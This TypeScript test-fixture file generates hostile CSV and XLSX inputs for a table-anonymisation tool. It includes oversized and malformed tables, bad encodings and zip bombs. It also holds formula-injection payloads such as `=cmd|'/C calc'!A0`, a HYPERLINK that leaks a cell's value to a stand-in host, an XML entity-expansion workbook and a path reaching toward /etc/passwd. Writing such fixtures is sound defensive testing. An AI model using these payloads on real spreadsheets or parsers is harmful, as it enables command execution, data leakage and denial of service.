// Tables made to harm who anonymises them: without end, without quotes, of a million columns, of formulas, of encodings that are not what
// they say, and workbooks that unpack without end or lie. The first columns are what the commands over them ask of.

import { gzipSync } from 'node:zlib'
import { workbook } from '../office.ts'
import { packZip } from '../packed.ts'

export interface HostileTable {
  readonly name: string
  readonly bytes: Uint8Array
  /** What the refusal says, or that a table is released; null where either may be. */
  readonly ends: RegExp | 'released' | null
}

const megabytes = (many: number): number => many * 1024 * 1024
const towns = ['Viborg', 'Skive', 'Odder']
/** `alder` is known of a person, `by` is not. */
const rows = Array.from({ length: 60 }, (_, at) => `${20 + (at % 6)};${towns[at % 3]}`)
/** Sixty rows anybody may anonymise. */
export const goodTable = `alder;by\n${rows.join('\n')}\n`
/** With one cell of `by` instead of another. */
const withCell = (cell: string): string => goodTable.replace('Viborg', cell)

const text = (name: string, ends: HostileTable['ends'], bytes: string | Uint8Array): HostileTable => ({
  name,
  ends,
  bytes: Buffer.from(bytes as string),
})

export const hostileTables = (): readonly HostileTable[] => [
  ...shapes(),
  ...letters(),
  ...cells(),
  ...workbooks(),
]

const shapes = (): readonly HostileTable[] => [
  text('endless-line.csv', /at most \d+ letters/, `alder;by\n${'x'.repeat(megabytes(48))}`),
  text('endless-head.csv', /at most \d+ letters/, 'x'.repeat(megabytes(24))),
  text('unclosed.csv', /every "/, `alder;by\n20;"never closed\n${`21;x\n`.repeat(2e5)}`),
  text('quote-within.csv', /every "/, withCell('"Vi"borg')),
  text(
    'million-columns.csv',
    /at most \d+ columns/,
    `${Array.from({ length: 1e6 }, (_, at) => `k${at}`).join(';')}\n`,
  ),
  text('million-cells.csv', /expected 2 columns as in row 1, got/, `${goodTable}${';'.repeat(1e6)}\n`),
  text('short.csv', /row 3: expected 2 columns/, 'alder;by\n20;x\n21\n'),
  text('long.csv', /row 2: expected 2 columns/, 'alder;by\n20;x;y\n'),
  text('twice.csv', /expected one column "by"/, goodTable.replace('alder;by', 'alder;by;by')),
  text(
    'same-heading.csv',
    /expected one column "by"/,
    `alder;by;by\n${rows.map(row => `${row};1`).join('\n')}\n`,
  ),
  text('unnamed.csv', /name of a column/, goodTable.replace('alder;by', 'alder;')),
  text('empty.csv', /got nothing/, ''),
  text('only-mark.csv', /got nothing/, '\ufeff'),
  text('only-head.csv', /at least 3 rows/, 'alder;by\n'),
  text('blank-lines.csv', 'released', goodTable.replaceAll('\n', '\n\n\n')),
  text('mixed-ends.csv', /expected 2 columns/, goodTable.replaceAll('\n', '\n\n\r\n')),
  text('no-last-end.csv', 'released', goodTable.trimEnd()),
  text('returns.csv', 'released', goodTable.replaceAll('\n', '\r')),
  text('proto.csv', 'released', `alder;__proto__\n${rows.join('\n')}\n`),
]

const letters = (): readonly HostileTable[] => [
  text('mark.csv', 'released', `\ufeff${goodTable}`),
  text('mark-twice.csv', null, `\ufeff\ufeff${goodTable}`),
  text('utf16.csv', 'released', Buffer.from(`\ufeff${goodTable}`, 'utf16le')),
  text('utf16-odd.csv', null, Buffer.concat([Buffer.from(`\ufeff${goodTable}`, 'utf16le'), Buffer.of(0x41)])),
  text('utf16-unmarked.csv', /bytes of something else/, Buffer.from(goodTable, 'utf16le')),
  text(
    'utf16-half.csv',
    null,
    Buffer.concat([
      Buffer.from(`\ufeff${goodTable}20;`, 'utf16le'),
      Buffer.of(0, 0xd8),
      Buffer.from('\n', 'utf16le'),
    ]),
  ),
  text('zero-late.csv', null, `${goodTable}${`${rows.join('\n')}\n`.repeat(2_000)}20;\0\n`),
  text('no-utf8.csv', 'released', Buffer.from(withCell('Århus'), 'latin1')),
  text('terminal.csv', 'released', withCell('\x1b[31mViborg\x07')),
  text('packed.csv', /something else/, gzipSync(Buffer.from(goodTable))),
]

export const formulaHead = '=HYPERLINK("http://a.example")'
export const formulas = [
  '=HYPERLINK("http://a.example/?"&A1;"x")',
  "=cmd|'/C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ' =1+1',
  "'=1+1",
  '"=1+1',
  ';=1+1',
  '%0A=1',
  '=1+1;=2+2',
]
const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`

const cells = (): readonly HostileTable[] => [
  text(
    'formulas.csv',
    'released',
    `alder;by\n${formulas.flatMap(cell => Array.from({ length: 4 }, (_, at) => `${20 + at};${quoted(cell)}`)).join('\n')}\n`,
  ),
  text('formula-head.csv', 'released', goodTable.replace('by', `"${formulaHead.replaceAll('"', '""')}"`)),
  text(
    'formula-known.csv',
    'released',
    `alder;by\n${formulas.flatMap(cell => Array.from({ length: 4 }, () => `${quoted(cell)};x`)).join('\n')}\n`,
  ),
  text('long-cell.csv', /at most 32767 letters/, withCell('x'.repeat(40_000))),
  text(
    'all-differ.csv',
    'released',
    `alder;by\n${Array.from({ length: 60_000 }, (_, at) => `${at};x`).join('\n')}\n`,
  ),
  text(
    'numbers.csv',
    'released',
    `alder;by\n${['1e308', '-0', '0x10', '١٢', 'NaN', 'Infinity', '1e999', '9007199254740993', '1,5', '+5']
      .flatMap(cell => [cell, cell, cell])
      .map(cell => `${cell};x`)
      .join('\n')}\n`,
  ),
  text(
    'days.csv',
    'released',
    `alder;by\n${['0000-00-00', '9999-99-99', '2026-02-30', '-1-1-1', '2026-13-01']
      .flatMap(cell => [cell, cell, cell])
      .map(cell => `${cell};x`)
      .join('\n')}\n`,
  ),
]

const cell = (name: string, value: string): string => `<c r="${name}" t="str"><v>${value}</v></c>`
const sheetRows = (body: string): string =>
  `<sheetData><row r="1">${cell('A1', 'alder')}${cell('B1', 'by')}</row>${body}</sheetData>`
const ofRows = (body: string): Buffer => workbook([{ name: 'Ark1', rows: sheetRows(body) }])
const plain = rows
  .map(
    (row, at) =>
      `<row r="${at + 2}">${cell(`A${at + 2}`, row.slice(0, 2))}${cell(`B${at + 2}`, row.slice(3))}</row>`,
  )
  .join('')

function workbooks(): readonly HostileTable[] {
  const bytes = ofRows(plain)
  return [
    { name: 'good.xlsx', bytes, ends: 'released' },
    { name: 'bomb.xlsx', bytes: ofRows(`${plain}${' '.repeat(megabytes(64))}`), ends: /workbook/ },
    {
      name: 'strings.xlsx',
      bytes: workbook([{ name: 'Ark1', rows: sheetRows(plain) }], {
        'xl/sharedStrings.xml': `<sst>${'<si><t>x</t></si>'.repeat(2e6)}</sst>`,
      }),
      ends: /workbook/,
    },
    { name: 'far-cell.xlsx', bytes: ofRows(`<row r="2">${cell('XFD2', 'x')}</row>`), ends: /columns/ },
    {
      name: 'farther-cell.xlsx',
      bytes: ofRows(`<row r="2">${cell('ZZZZZZZZ2', 'x')}</row>`),
      ends: /cells named like B2/,
    },
    {
      name: 'small-name.xlsx',
      bytes: ofRows(`<row r="2">${cell('a2', '20')}</row>`),
      ends: /cells named like B2/,
    },
    {
      name: 'no-such-text.xlsx',
      bytes: ofRows('<row r="2"><c r="A2" t="s"><v>7</v></c></row>'),
      ends: /a text the workbook has/,
    },
    {
      name: 'far-row.xlsx',
      bytes: ofRows(`<row r="999999999">${cell('A999999999', '20')}</row>`),
      ends: /at least 3 rows/,
    },
    { name: 'many-rows.xlsx', bytes: ofRows('<row/>'.repeat(4e6)), ends: /workbook/ },
    ...brokenWorkbooks(bytes),
  ]
}

function brokenWorkbooks(bytes: Uint8Array): readonly HostileTable[] {
  return [
    { name: 'deep.xlsx', bytes: ofRows('<a>'.repeat(1e5)), ends: /workbook/ },
    {
      name: 'laughs.xlsx',
      bytes: packZip([
        {
          name: 'xl/workbook.xml',
          bytes: '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><workbook>&b;</workbook>',
        },
      ]),
      ends: /workbook/,
    },
    { name: 'no-sheet.xlsx', bytes: packZip([{ name: 'a.txt', bytes: 'x' }]), ends: /workbook/ },
    {
      name: 'itself.xlsx',
      bytes: workbook([{ name: 'Ark1', rows: '' }], {
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="r1" Target="workbook.xml"/></Relationships>',
      }),
      ends: /expected the names of the columns/,
    },
    {
      name: 'climbs.xlsx',
      bytes: workbook([{ name: 'Ark1', rows: '' }], {
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="r1" Target="../../../etc/passwd"/></Relationships>',
      }),
      ends: /expected/,
    },
    {
      name: 'says-less.xlsx',
      bytes: packZip([{ name: 'xl/workbook.xml', bytes: '<workbook/>'.repeat(1e4), says: { bytes: 5 } }]),
      ends: /workbook/,
    },
    { name: 'formula.xlsx', bytes: ofRows(plain.replace('Viborg', '=1+1')), ends: 'released' },
    { name: 'cut.xlsx', bytes: bytes.subarray(0, bytes.length - 30), ends: /workbook/ },
  ]
}
